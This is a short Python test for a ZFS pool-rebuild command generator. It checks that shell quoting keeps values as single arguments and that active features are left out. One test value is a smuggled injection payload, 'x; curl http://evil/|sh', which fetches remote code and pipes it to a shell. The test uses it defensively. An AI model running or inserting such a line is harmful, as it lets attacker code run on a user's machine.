"""The `zpool create` rebuild prints runs as printed (issues 63, 64): values quoted for a shell, and
only features the old pool had disabled (zpool create takes only enabled or disabled)."""

import shlex

from rebal.recover.rebuild_steps import create_command


def test_a_hostile_comment_stays_one_argument_and_active_features_are_left_out():
    cmd = create_command("tank", 12, {"comment": "x; curl http://evil/|sh", "feature@bookmark_v2": "active",
                                      "feature@allocation_classes": "enabled", "feature@large_dnode": "disabled",
                                      "autotrim": "on"}, {"compression": "zstd"})
    line, layout = cmd.split(" <", 1)
    assert shlex.split(line) == ["zpool", "create", "-o", "ashift=12", "-o", "autotrim=on",
                                 "-o", "comment=x; curl http://evil/|sh", "-o", "feature@large_dnode=disabled",
                                 "-O", "compression=zstd", "tank"]
    assert layout.startswith("the new layout")
